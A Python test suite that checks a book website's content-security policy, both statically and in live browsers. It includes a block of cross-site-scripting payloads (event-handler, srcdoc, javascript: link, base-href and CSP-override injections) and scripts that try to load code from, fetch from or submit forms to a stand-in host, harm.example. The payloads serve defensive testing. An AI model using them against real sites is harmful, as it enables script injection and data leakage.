"""The content-security policy: what it says, and that browsers hold to it."""

import re

import pytest
from bs4 import BeautifulSoup

from book._ext.book_site.frame.policy import (
    CHARSET,
    INLINE,
    digest,
    guarded,
    inline_scripts,
    policy,
)
from book._ext.book_site.pages import slides as links
from tests.site.conftest import ROOT, served
from tests.site.pages import NOTEBOOKS, PAGES
from tests.site.record import press
from tests.site.visit import Visit, comes, until
from tools.editions.slides import __main__ as decks

THEME = ROOT / "book" / "_ext" / "book_site" / "theme"
MOVED = "book/12_decoding.html"
LEAD_ON = {"index.html": "book/index.html", MOVED: "book/13_decoding.html"}
# Not among the pages of which a visit notes what they break.
OTHERS = [*LEAD_ON, "404.html", "search.html?q=softmax"]
UNFIT = re.compile(
    r"<(?:style|iframe|object|embed|base)\b|<[a-z][^<>]*\son[a-z]+=", re.I
)
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
HOSTILE = """
<script>window.harm = "inline"</script>
<script src="data:text/javascript,window.harm='data'"></script>
<img src="x:y" onerror="window.harm = 'event'">
<svg onload="window.harm = 'drawing'"></svg>
<iframe srcdoc="<script>parent.harm = 'frame'</script>"></iframe>
<iframe src="https://harm.example/frame"></iframe>
<object data="data:text/html,<script>parent.harm = 'object'</script>"></object>
<style>html { outline: 3px solid rgb(1, 2, 3) }</style>
<a id="trap" href="javascript:void (window.harm = 'link')">x</a>
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://harm.example/">
"""


def policy_of(path):
    """The directives of a page, and what each allows."""
    head = path.read_text().split("</head>")[0]
    name = {"http-equiv": "Content-Security-Policy"}
    (meta,) = BeautifulSoup(head, "html.parser").find_all("meta", attrs=name)
    before = [tag.name for tag in meta.find_all_previous()]
    assert not {"script", "link", "style", "body"} & set(before)
    parts = (part.split() for part in meta["content"].split("; "))
    return {name: sources for name, *sources in parts}


def assert_strict(path):
    """No script but the site's own files and those that are known."""
    said = policy_of(path)
    assert said["default-src"] == said["base-uri"] == ["'none'"]
    assert said["object-src"] == ["'none'"]
    assert said["form-action"] == ["'self'"]
    own, *hashes = said["script-src"]
    assert own == "'self'"
    assert all(name.startswith("'sha256-") for name in hashes)
    for sources in said.values():
        assert not {"*", "https:", "http:", "'unsafe-eval'"} & set(sources)
    inline = [digest(script) for script in INLINE.findall(path.read_text())]
    assert set(inline) <= set(hashes)


def test_every_page_has_a_strict_policy(site):
    pages = [*site.rglob("*.html")]
    assert len(pages) >= len(PAGES) + 1
    for path in pages:
        assert_strict(path)
        text = path.read_text()
        if path.name == "404.html":  # its style is known by its hash
            text = text.replace("<style>", "")
        assert not UNFIT.search(text), path


def test_the_theme_has_no_script_that_varies(tmp_path):
    assert inline_scripts(THEME)
    for text in ("{{ x }}", "{% if x %}1{% endif %}", "{# x #}"):
        (tmp_path / "a.html").write_text(f"<script>{text}</script>")
        with pytest.raises(ValueError, match="a.html: an inline script"):
            inline_scripts(tmp_path)


def test_a_hash_is_that_of_the_text():
    known = "'sha256-RFWPLDbv2BY+rCkDzsE+0fr8ylGr2R2faWMhq4lfEQc='"
    assert digest("doSomething();") == known
    said = policy(["doSomething();"], frame_src="'self'")
    assert f"script-src 'self' {known};" in said
    assert said.endswith("; frame-src 'self'")


def test_a_page_of_its_own_is_guarded_by_its_own_hashes():
    page = f"{CHARSET}\n<script>one()</script><style>a {{}}</style>"
    shown = guarded(page)
    assert f"script-src 'self' {digest('one()')};" in shown
    assert f"style-src-elem 'self' {digest('a {}')};" in shown


@pytest.fixture(
    params=["over http", pytest.param("as files", marks=pytest.mark.slow)]
)
def base(request, site, address):
    """Where the pages are."""
    return address if "http" in request.param else f"{site.as_uri()}/"


@pytest.fixture
def visit(browser):
    context = browser.new_context()
    context.add_init_script(WATCH)
    visit = Visit(context.new_page())
    visit.tab.on("requestfailed", lambda r: visit.failures.append(r.url))
    yield visit
    context.close()


@pytest.fixture
def tab(visit):
    return visit.tab


@pytest.mark.parametrize("page", OTHERS)
def test_no_other_page_breaks_its_policy(tab, visit, base, page):
    tab.goto(base + page)
    until(tab, f"location.href.includes('{LEAD_ON.get(page, page)}')")
    tab.wait_for_load_state("load")
    if "?q" in page:
        tab.wait_for_selector("#search-results li a")
    press(visit)
    assert tab.evaluate("window.violations") == []
    assert not [m for m in visit.messages if "Content Security" in m]
    margin = "getComputedStyle(document.body).marginTop"
    assert tab.evaluate(margin) == "0px"  # the style has arrived


def test_the_model_of_the_home_page_runs_under_the_policy(visit, tab, base):
    visit.load(f"{base}book/index.html")
    box = tab.locator("date-explorer")
    box.get_by_role("textbox").fill("8 grudnia 1975")
    box.get_by_role("textbox").press("Enter")
    until(tab, "document.querySelector('date-explorer').live")
    said = tab.evaluate("document.querySelector('date-explorer').value")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", said["iso"])
    assert tab.evaluate("window.violations") == []


@pytest.mark.slow
def test_firefox_runs_the_sites_scripts_and_no_other(firefox, base):
    firefox.open(f"{base}{NOTEBOOKS[3]}.html", 1100)
    ready = "document.querySelector('.explorer').hasAttribute('data-ready')"
    assert firefox.evaluate(ready) is True
    hidden = "document.querySelector('.theme-button').hidden"
    assert firefox.evaluate(hidden) is False
    firefox.evaluate(f"(() => {{ {LATER['script-src-elem inline']} }})()")
    assert firefox.evaluate("window.harm === undefined") is True


def test_what_a_page_was_made_to_say_does_not_run(visit, address):
    """Somebody has put this into a page, for example by an output."""

    def inject(route):
        text = route.fetch().text()
        body = text.replace("</h1>", f"</h1>{HOSTILE}", 1)
        assert body != text
        route.fulfill(body=body, content_type="text/html")

    tab, page = visit.tab, f"{NOTEBOOKS[0]}.html"
    tab.route(f"**/{page}", inject)
    tab.goto(address + page)
    tab.locator("#trap").click()
    stopped = {
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "frame-src",
        "object-src",
        "base-uri",
    }

    def seen():
        return {line.split()[0] for line in tab.evaluate("window.violations")}

    assert comes(tab, lambda: seen() >= stopped)
    tab.wait_for_timeout(300)  # what was let through may take a while
    assert tab.evaluate("window.harm") is None
    outline = "getComputedStyle(document.documentElement).outlineColor"
    assert tab.evaluate(outline) != "rgb(1, 2, 3)"
    assert tab.evaluate("document.baseURI") == address + page
    assert not any("harm.example" in url for url in visit.requests)


LATER = {
    "script-src-elem inline": """
        const script = document.createElement("script");
        script.textContent = "window.harm = 1";
        document.head.append(script);""",
    "script-src-elem https://harm.example/x.js": """
        const script = document.createElement("script");
        script.src = "https://harm.example/x.js";
        document.head.append(script);""",
    "script-src-attr inline": """
        const box = document.createElement("p");
        box.setAttribute("onclick", "window.harm = 1");
        document.body.append(box);
        box.click();""",
    "script-src eval": """
        const script = document.createElement("script");
        setTimeout("window.harm = 1");""",
    "img-src https://harm.example/x.png": """
        new Image().src = "https://harm.example/x.png";""",
    "connect-src https://harm.example/x": """
        fetch("https://harm.example/x").catch(() => {});""",
    "form-action https://harm.example/x?": """
        const form = document.createElement("form");
        form.action = "https://harm.example/x";
        document.body.append(form);
        form.submit();""",
}


def test_what_a_script_tries_later_is_refused(visit, tab, base):
    visit.load(f"{base}{NOTEBOOKS[0]}.html")
    for seen, script in LATER.items():
        tab.evaluate("window.violations = []")
        tab.evaluate(f"() => {{ {script} }}")
        until(tab, "window.violations.length > 0")
        assert tab.evaluate("window.violations") == [seen]
    assert tab.evaluate("window.harm") is None


# slides


@pytest.fixture(scope="module")
def deck(tmp_path_factory):
    """A folder with the slides of a chapter."""
    folder = tmp_path_factory.mktemp("slides")
    decks.main(["04", "--out", str(folder)])
    return folder


def test_slides_have_a_strict_policy(deck):
    (path,) = (deck / links.FOLDER).glob("*.html")
    assert_strict(path)
    assert policy_of(path)["frame-src"] == ["'self'"]


@pytest.mark.slow
@pytest.mark.parametrize("how", ["over http", "as files"])
def test_slides_and_what_the_speaker_sees_keep_to_it(visit, deck, how):
    with served(deck) as there:
        base = there if "http" in how else f"{deck.as_uri()}/"
        tab = visit.tab
        tab.goto(f"{base}{links.FOLDER}/04_masks.html")
        until(tab, "window.Reveal && Reveal.isReady()")
        with tab.context.expect_page() as window:
            tab.keyboard.press("s")
        said = []
        window.value.on("console", lambda m: said.append(m.text))
        frame = window.value.frame_locator("iframe").first
        frame.locator(".reveal.ready").first.wait_for()
        assert tab.evaluate("window.violations") == []
        tab.goto(f"{base}{links.FOLDER}/04_masks.html?print-pdf")
        tab.wait_for_selector(".pdf-page", state="attached")
        assert tab.evaluate("window.violations") == []
        window.value.close()
    said += visit.messages
    assert not [m for m in said if re.search("Content.Security", m)]
